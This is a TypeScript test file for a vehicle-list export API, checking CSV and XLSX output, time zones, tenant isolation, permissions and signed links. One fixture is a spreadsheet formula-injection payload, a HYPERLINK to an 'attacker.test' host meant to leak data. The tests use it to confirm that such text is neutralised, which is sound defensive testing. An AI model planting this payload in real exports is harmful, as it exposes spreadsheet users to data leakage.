// A list's export through the API (`GET <list>/export`): the list's own rows, filters and order,
// the columns and headers asked for, times in the user's zone, formula-like text neutralised,
// another customer's rows never present, the list's right required, and the signed link the
// browser opens without a token.
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Harness, startHarness, twoTenants } from '../testing/harness.ts';
import { cellOf, timeIn } from './listExports.ts';

const FORMULA = '=HYPERLINK("http://attacker.test/?leak","open")';
let h: Harness;
let ids: Record<string, string> = {};

beforeAll(async () => {
  h = await startHarness();
  ids = await twoTenants(h, ['vehicle:view'], { formula: FORMULA, plain: 'Export forklift 7' });
  await h.database.query("UPDATE vehicles SET created_at = '2026-03-01 20:30:00+00' WHERE id = $1", [
    ids.plain,
  ]);
});
afterAll(async () => h?.close());

const column = (path: string, title: string) => `column=${encodeURIComponent(`${path}:${title}`)}`;
const exportOf = (query: string, who = 'manager') => h.as(who).get(`/vehicles/export?${query}`);

describe('a list export', () => {
  it('answers the list as CSV: the columns and headers asked for, filtered and ordered as the list', async () => {
    const answer = await exportOf(
      [column('name', '車両名'), column('customer', '会社'), column('created_at', '登録日時')].join('&') +
        '&time_zone=Asia%2FTokyo&filter=export%20forklift&file_name=vehicles',
    );
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toMatch(/^text\/csv/);
    expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="vehicles\.csv"/);
    // 20:30 UTC is 05:30 the next day in Tokyo.
    expect(answer.text).toBe(
      '\uFEFF車両名,会社,登録日時\r\nExport forklift 7,Harbor Logistics,2026-03-02 05:30:00\r\n',
    );
  });

  it('neutralises formula-like text in CSV and XLSX', async () => {
    const filter = `filter=${encodeURIComponent('HYPERLINK')}&${column('name', '=Name')}`;
    const csv = await exportOf(filter);
    expect(csv.text).toContain(`'=Name\r\n"'=HYPERLINK(""http://attacker.test/?leak"",""open"")"\r\n`);
    const xlsx = await exportOf(`${filter}&format=xlsx`);
    expect(xlsx.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const sheet = new TextDecoder().decode(unzipSync(new Uint8Array(xlsx.raw))['xl/worksheets/sheet1.xml']);
    expect(sheet).toContain('&apos;=HYPERLINK(&quot;http://attacker.test/?leak&quot;,&quot;open&quot;)');
    expect(sheet).not.toContain('<f>');
  });

  it("never holds another customer's rows", async () => {
    const all = await exportOf(`${column('id', 'id')}&${column('name', 'name')}`);
    expect(all.status).toBe(200);
    expect(all.text).toContain(ids.plain);
    expect(all.text).not.toContain(ids.otherVehicle);
    expect(all.text).not.toContain('Quay crane');
  });

  it('refuses a user without the list’s right, and a column the list has not', async () => {
    expect((await exportOf(column('name', 'Name'), 'operator')).status).toBe(403);
    const unknown = await exportOf(column('password', 'Password'));
    expect(unknown.status).toBe(400);
    expect(unknown.fields).toEqual({ column: 'This column cannot be exported.' });
    expect((await exportOf('time_zone=Mars%2FOlympus')).status).toBe(400);
  });

  it('opens through a link signed for its user, and only as that user could', async () => {
    const url = `/api/v1/vehicles/export?${column('name', 'Name')}&filter=forklift%207`;
    const link = await h.as('manager').post('/export-links', { url });
    expect(link.status).toBe(200);
    const opened = await h.app.inject({ method: 'GET', url: link.body.data.url });
    expect(opened.statusCode).toBe(200);
    expect(opened.body).toBe('\uFEFFName\r\nExport forklift 7\r\n');
    // Changed after signing (another filter), or signed for someone without the right: refused.
    const changed = await h.app.inject({
      method: 'GET',
      url: link.body.data.url.replace('forklift%207', 'crane'),
    });
    expect(changed.statusCode).toBe(403);
    const operators = await h.as('operator').post('/export-links', { url });
    expect((await h.app.inject({ method: 'GET', url: operators.body.data.url })).statusCode).toBe(403);
    // A link cannot be asked for someone else, nor for what is not an export.
    expect((await h.as('manager').post('/export-links', { url: `${url}&user=${ids.harbor}` })).status).toBe(
      400,
    );
    expect((await h.as('manager').post('/export-links', { url: '/api/v1/vehicles' })).status).toBe(400);
  });
});

describe('export cells', () => {
  it('writes times in the zone, named records by name, lists joined, nothing for null', () => {
    expect(timeIn('2026-12-31 23:30:00', 'Asia/Tokyo')).toBe('2027-01-01 08:30:00');
    expect(timeIn('2026-07-01T00:00:00.000Z', 'America/New_York')).toBe('2026-06-30 20:00:00');
    expect(cellOf({ id: 'x', name: 'Harbor' }, 'UTC')).toBe('Harbor');
    expect(cellOf([{ name: 'a' }, { name: 'b' }], 'UTC')).toBe('a, b');
    expect(cellOf(null, 'UTC')).toBeNull();
    expect(cellOf(2.5, 'UTC')).toBe(2.5);
  });
});
